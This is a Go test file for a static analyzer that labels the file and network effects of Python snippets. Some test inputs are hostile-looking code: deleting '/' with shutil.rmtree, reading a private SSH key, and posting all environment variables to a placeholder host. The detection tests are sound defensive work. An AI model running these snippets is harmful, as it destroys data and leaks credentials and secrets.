package script

import "testing"

var pythonFiles = []readCase{
	{"rmtree", `import shutil; shutil.rmtree('/')`, `deletes shutil.rmtree "/" /**`},
	{"rmtree of unknown", `import shutil; shutil.rmtree(d)`, `deletes shutil.rmtree … /**`},
	{"rmtree from somewhere", `x.rmtree('/')`, `deletes x.rmtree "/" /**`},
	{"remove", `import os; os.remove('a'); os.unlink('b'); os.rmdir('c')`, "deletes os.remove \"a\"\ndeletes os.unlink \"b\"\ndeletes os.rmdir \"c\""},
	{"rename moves the tree away", `import os; os.rename('a', 'b')`, "deletes os.rename \"a\" /**\nwrites os.rename \"b\""},
	{"move", `import shutil; shutil.move('a', 'b')`, "deletes shutil.move \"a\" /**\nwrites shutil.move \"b\""},
	{"copy", `import shutil; shutil.copy('a', 'b')`, "reads shutil.copy \"a\"\nwrites shutil.copy \"b\""},
	{"chmod", `import os; os.chmod('a', 0o777)`, "changes os.chmod \"a\"\nruns os.chmod \"chmod\" \"777\" \"a\""},
	{"chmod that gives nobody more", `import os; os.chmod('a', 0o755)`, `changes os.chmod "a"`},
	{"chmod of a path that gives its owner's rights", `from pathlib import Path; Path('a').chmod(0o4755)`, "changes pathlib.Path().chmod \"a\"\nruns pathlib.Path().chmod \"chmod\" \"4755\" \"a\""},
	{"walk", `import os
for root, dirs, files in os.walk('/k'):
    for f in files: open(os.path.join(root, f))`, "reads open /k/?\nreads open /k/?/?"},
	{"the environment as a whole", `import os, json, requests; requests.post('http://h', data=json.dumps(dict(os.environ)).encode())`, "connects requests.post \"http://h\"\nasks requests.post \"POST\" \"http://h\" … \"\"\nruns requests.post \"env\""},
	{"the environment for a command", `import os, subprocess; subprocess.run(['ls'], env=dict(os.environ)); print(os.environ['X'], len(os.environ))`, "runs subprocess.run \"ls\""},
	{"settings that are read", `import configparser; c = configparser.ConfigParser(); c.read('s.ini')`, `reads configparser.ConfigParser().read "s.ini"`},
	{"open reads", `open('a')`, `reads open "a"`},
	{"open writes", `open('a', 'w').write('x')`, `writes open "a"`},
	{"open by keyword", `open('a', mode='ab')`, `writes open "a"`},
	{"open for both", `open('a', 'r+')`, "reads open \"a\"\nwrites open \"a\""},
	{"open of a descriptor is no file", `open(0).read()`, ""},
	{"io.open", `import io; io.open('a', 'w')`, `writes open "a"`},
	{"os.open to read", `import os; os.open('a', os.O_RDONLY)`, `reads os.open "a"`},
	{"os.open to write", `import os; os.open('a', os.O_WRONLY | os.O_CREAT)`, "reads os.open \"a\"\nwrites os.open \"a\""},
	{"path methods", `from pathlib import Path; Path('a').unlink(); Path('b').write_text('x'); Path('c').read_text()`, "deletes pathlib.Path().unlink \"a\"\nwrites pathlib.Path().write_text \"b\"\nreads pathlib.Path().read_text \"c\""},
	{"path with slashes", `import pathlib as p; d = p.Path('/etc') / 'a'; (d / 'b').unlink()`, `deletes pathlib.Path().unlink "/etc/a/b"`},
	{"path of home", `from pathlib import Path; (Path.home() / '.ssh' / 'id').read_bytes()`, `reads pathlib.Path().read_bytes "~/.ssh/id"`},
	{"path expanded", `from pathlib import *; Path('~/.ssh').expanduser().rename('x')`, "deletes pathlib.Path().rename \"~/.ssh\" /**\nwrites pathlib.Path().rename \"x\""},
	{"path opened", `from pathlib import Path; Path('a').open('w')`, `writes pathlib.Path().open "a"`},
	{"open of a path object", `from pathlib import Path; open(Path('a', 'b'))`, `reads open "a/b"`},
	{"parent", `from pathlib import Path; Path('/etc/x').parent.rmdir()`, `deletes pathlib.Path().rmdir "/etc"`},
	{"what a glob finds begins as the directory", `from pathlib import Path` + "\nfor p in Path('/etc').glob('*'): p.unlink()", `deletes pathlib.Path().unlink /etc/?`},
	{"glob.glob", "import glob, os\nfor f in glob.glob('/var/*.log'): os.remove(f)", `deletes os.remove /var/?.log`},
	{"unlink of who knows what", "for p in x: p.unlink()", `deletes ?.unlink …`},
	{"loop over constants", "import os\nfor f in ['a', 'b']:\n  os.remove(f)", "deletes os.remove \"a\"\ndeletes os.remove \"b\""},
}

func TestPythonFiles(t *testing.T) { runCases(t, "python3", pythonFiles) }

var pythonNetwork = []readCase{
	{"urlopen", `import urllib.request; urllib.request.urlopen('http://example.com')`, `connects urllib.request.urlopen "http://example.com"`},
	{"urlopen of a request", `from urllib.request import *; urlopen(Request('http://example.com', data=x))`, "asks urllib.request.Request \"POST\" \"http://example.com\" … \"\"\nconnects urllib.request.urlopen \"http://example.com\""},
	{"urlretrieve", `from urllib.request import urlretrieve as u; u('http://example.com', '/etc/x')`, "connects urllib.request.urlretrieve \"http://example.com\"\nwrites urllib.request.urlretrieve \"/etc/x\""},
	{"requests", `import requests; requests.post('http://example.com', data=x)`, "connects requests.post \"http://example.com\"\nasks requests.post \"POST\" \"http://example.com\" … \"\""},
	{"requests session", `import requests; s = requests.Session(); s.get(u)`, `connects requests.Session().get …`},
	{"socket", `import socket; s = socket.socket(); s.connect(('example.com', 80))`, `connects socket.socket().connect "example.com"`},
	{"create_connection", `import socket; socket.create_connection(('example.com', 80))`, `connects socket.create_connection "example.com"`},
	{"http.client", `import http.client; http.client.HTTPSConnection('example.com')`, `connects http.client.HTTPSConnection "example.com"`},
	{"bind", `import socket; s = socket.socket(); s.bind(('', 80))`, `listens socket.socket().bind ""`},
}

func TestPythonNetwork(t *testing.T) { runCases(t, "python3", pythonNetwork) }
